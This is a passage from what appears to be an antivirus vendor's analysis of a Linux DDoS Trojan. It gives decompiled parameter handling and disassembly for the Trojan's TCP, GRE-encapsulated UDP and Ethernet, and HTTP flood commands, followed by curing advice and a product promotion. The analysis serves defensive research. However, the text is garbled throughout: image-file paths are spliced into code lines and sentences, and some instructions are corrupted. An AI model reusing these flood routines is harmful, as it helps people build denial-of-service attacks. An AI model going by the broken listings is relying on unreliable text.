v32 = getNumberOrDefault(params_count, params,18, 0);
urgent_flag = getNumberOrDefault(params_count, params, 11, 0);
ack_flag = getNumberOrDefault(params_count, params, 12, 0);
psh_flag = getNumberOrDefault(params_count, params, 13, 0);
rst_flag = getNumberOrDefault(params_count, params, 14, 0);
syn_flag = getNumberOrDefault(params_count, params, 15, 1);
fin_flag =getNumberOrDefault(params_count, params, 16, 0);

Setting flags in the packet:

.text:0804A016                 mov     [esi+tcp_packet.seq], eax
.text:0804A019                 mov     al, byte ptr [esi+tcp_packet.flags]
.text:0804A01C                 and     eax, 0Fh
.text:0804A01F                 or      eax, 0FFFFFFA0h ; set packet size as 10 dwords (40 bytes)
.text:0804A022                 mov     byte ptr [esi+tcp_packet.flags], al
.text:0804A025                 mov     al, byte ptr [esi+(tcp_packet.flags+1)]
.text:0804A028                 and     eax, 0FFFFFFCFh ; 0x11001111
.text:0804A02B                 mov     dl, [esp+6Ch+ack_flg]
.text:0804A02F                 or      al, [esp+6Ch+urgent_flg_shifted]
.text:0804A033                 mov     cl, [esp+6Ch+push_flag]
.text:0804A037                 shl     edx, 4
.text:0804A03A                 shl     ecx, 3.text:0804A03D                 or      eax, edx
.text:0804A03F                 and     eax, 0FFFFFFF3h ; 0x11110011
.text:0804A042                 mov     dl, [esp+6Ch+rst_flg]
.text:0804A046                 shl     edx, 2
.text:0804A049                 or      eax, ecx
.text:0804A04B                 or      eax, edx
.text:0804A04D                 mov     dl, [esp+6Ch+syn_flag]
.text:0804A051                 add     edx, edx
.text:0804A053                 and     eax, 0FFFFFFFCh
.text:0804A056                 or      eax, edx
.text:0804A058                 or      eax, edi
.text:0804A05A                 mov     byte ptr [esi+(tcp_packet.flags+1)], alIn addition, TCP parameters containing the numbers 2 and 8 are installed in the packet—maximum segment size and timestamp:

.text:0804A05D                 mov     byte ptr [ebx+28h], TCPOPT_MAXSEG
.text:0804A061                 mov     byte ptr [ebx+29h], 4
.text:0804A065                 call    rand_cmwc
.text:0804A06A                 mov     byte ptr [ebx+2Ch], 4
.text:0804A06E                 and     eax, 0Fh
.text:0804A071                 mov     byte ptr [ebx+2Dh], 2
.text:0804A075                 add     eax, 578h
.text:0804A07A                 mov     byte ptr [ebx+2Eh], TCPOPT_TIMESTAMP
.text:0804A07E                 ror     ax, 8
.text:0804A082                 mov     byte ptr [ebx+2Fh], 0Ah
.text:0804A086                 mov     [ebx+2Ah], ax
.text:0804A08A                 call    rand_cmwc
.text:0804A08F                 mov     dword ptr [ebx+34h], 0
.text:0804A096                 mov     [ebx+30h], eax
.text:0804A099                 mov     byte ptr [ebx+38h], 1.text:0804A09D                 mov     byte ptr [ebx+39h], 3
.text:0804A0A1                 mov     byte ptr [ebx+3Ah], 3
.text:0804A0A5                 mov     byte ptr [ebx+3Bh], 6

Once generated, the packet is sent without any information.

cmd4 – TCP flood random

This command operates like the previous one; however, the TCP parameters are not set in the packet. If the corresponding flag is set, random data is written to the packet.

cmd6 - TCP flood 1 option

The command is similar to cmd3; however, only one parameter is set:.text:08049656                 mov     byte ptr [], TCPOPT_NOP
.text:0804965A                 mov     byte ptr [esi+(], TCPOPT_NOP
.text:0804965E                 mov     byte ptr [esi+2Ah], TCPOPT_TIMESTAMP
.text:08049662                 mov     byte ptr [esi+2Bh], 0Ah
.text:08049666                 lea     ebx, [esi+2Ch]
.text:08049669                 call    rand_cmwc
.text:0804966E                 mov     [esi+2Ch], eax
.text:08049671                 call    rand_cmwc
.text:08049676                 mov     [ebx+4], eax

cmd7 - TCP flood simple

In contrast to the previous methods, when this command is executed, only the port and the size of the transmitted data are defined. To carry out an attack, sockets are used to establish a TCP connection:

port = getNumberOrDefault(params_count, params, 7, 80);
size = getNumberOrDefault(params_count, params, 0, 1024);
useRandom = getNumberOrDefault(params_count, params, 1, 1);

cmd8 UDP flood over GRE

The command sends UDP packets over the GRE protocol and uses the following parameters:

TOS = getNumberOrDefault(params_count, param, 2, 0);
ident =getNumberOrDefault(params_count, param, 3, 0xFFFF);
TTL = getNumberOrDefault(params_count, param, 4, 64);
frag = getNumberOrDefault(params_count, param, 5, 1);
sport = getNumberOrDefault(params_count, param, 6, 0xFFFF);
dport = getNumberOrDefault(params_count, param, 7, 0xFFFF);
payloadLength = getNumberOrDefault(params_count, param, 0, 512);
fillRandom = getNumberOrDefault(params_count, param, 1, 1);
useSameAddr = getNumberOrDefault(params_count, param, 19, 0); //inner ip.dstAddr == outer ip.dstAddr

The GRE packet is generated as follows:

.text:08048F57 loc_8048F57:                            ; CODE XREF: cmd8_GRE_udp_random+1EFj
.text:08048F57                 mov     [ebx+ipgre8._ip.protocol], IPPROTO_GRE
.text:08048F5B                 mov     [edx+gre_packet.protocolType], 8 ; IP protocol
.text:08048F61                 mov     eax, ds:selfaddr
.text:08048F66                 mov     ecx, [esp+5Ch+arg_4]
.text:08048F6A                 mov     [ebx+ipgre8._ip.src_addr], eax
.text:08048F6D                 mov     eax, [esp+5Ch+counter]
.text:08048F71                 lea     eax, [eax+eax*2]
.text:08048F74                 mov     eax, [ecx+eax*8]
.text:08048F77                 mov     [ebx+ipgre8.ip_inner.header._ip.Version], 45h.text:08048F7B                 mov     [ebx+ipgre8._ip.dst_addr], eax
.text:08048F7E                 mov     al, [esp+5Ch+TOS]
.text:08048F82                 mov     [esi+ipudp._ip.TOS], al
.text:08048F85                 mov     dl, [esp+5Ch+TTL]
.text:08048F89                 mov     eax, dword ptr [esp+5Ch+inner_length]
.text:08048F8D                 ror     ax, 8
.text:08048F91                 mov     [esi+ipudp._ip.totalLength], ax
.text:08048F95                 mov     ax, [esp+5Ch+ident_inner]
.text:08048F9A                 mov     [esi+ipudp._ip.TTL], dl
.text:08048F9D                 ror     ax, 8
.text:08048FA1                 cmp     [esp+5Ch+frag], 0
.text:08048FA6                 mov     [esi+ipudp._ip.ident], ax
.text:08048FAA                 jz      short loc_8048FB2.text:08048FAC                 mov     [esi+ipudp._ip.frag_offs], 40h
.text:08048FB2 loc_8048FB2:                            ; CODE XREF: cmd8_GRE_udp_random+24Aj
.text:08048FB2                 mov     [esi+ipudp._ip.protocol], IPPROTO_UDP
.text:08048FB6                 call    rand_cmwc
.text:08048FBB                 cmp     [esp+5Ch+var_27], 0
.text:08048FC0                 mov     [esi+ipudp._ip.src_addr], eax
.text:08048FC3                 jnz     use_same
.text:08048FC9                 sub     eax, 400h
.text:08048FCE                 xor     eax, 0FFFFFFFFh
.text:08048FD1                 mov     [esi+ipgre8._ip.dst_addr], eax
.text:08048FD4                 jmp     loc_8048EC3

cmd10 GRE Packet using Transparent Ethernet BridgingLike the previous command, this command sends encapsulated GRE packets; however, TEB (Transparent Ethernet Bridging) is used: the packet contains a full-featured Ethernet frame. The sender’s and the receiver's MAC addresses are randomly generated in the internal frame:

.text:08048A3A                 mov     [ebx+ipgre_9.outer_iphdr._ip.protocol], IPPROTO_GRE
.text:08048A3E                 mov     [ecx+gre_packet.protocolType], 5865h ; GRE_NET_TEB
.text:08048A44                 mov     eax, ds:selfaddr
.text:08048A49                 mov     edx, [esp+6Ch+arg_4]
.text:08048A4D                 mov     [ebx+ipgre_9.outer_iphdr._ip.src_addr], eax
.text:08048A50                 mov     ecx, [esp+6Ch+saved_frame]
.text:08048A54                 mov     eax, [esp+6Ch+counter]
.text:08048A58                 mov     [ecx+ether_packet.type], 8 ; IP

cmd14 HTTP Flood

During one iteration, the command sends 10 HTTP requests that look as follows:

GET <param(20)> HTTP/1.1
Host: <param(22)>
Connection: keep-alive
User-Agent: <randomly selected from those specified in the configuration>
Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8
Accept-Encoding: gzip, deflate, sdch
Accept-Language: en-US,en;q=0.8

News about the Trojan

Curing recommendations


After booting up, run a full scan of all disk partitions with Dr.Web Anti-virus for Linux.

Free trial

One month (no registration) or three months (registrationand renewal discount)

DownloadDr.Web

Download by serial number